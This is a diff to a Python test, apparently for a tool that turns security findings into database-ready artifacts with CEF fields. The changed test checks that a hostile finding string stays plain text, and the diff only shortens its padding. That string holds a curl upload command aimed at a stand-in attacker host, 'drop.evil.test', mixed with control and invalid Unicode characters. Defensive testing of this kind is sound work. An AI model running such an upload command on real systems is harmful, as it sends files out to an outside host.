@@ -119,7 +119,7 @@ def test_the_same_finding_gives_the_same_artifacts() -> None:
 
 
 def test_hostile_text_stays_text_that_a_database_takes() -> None:
-    hostile = "curl -T a \u202e\0\ud800 https://drop.evil.test/" + "x" * 20_000
+    hostile = "curl -T a \u202e\0\ud800 https://drop.evil.test/" + "x" * 9_000
     ((_, made),) = artifacts(handed(finding("f1", hostile)))
     for each in made:
         for text in (each.name, *(value for value in each.cef.values() if isinstance(value, str))):
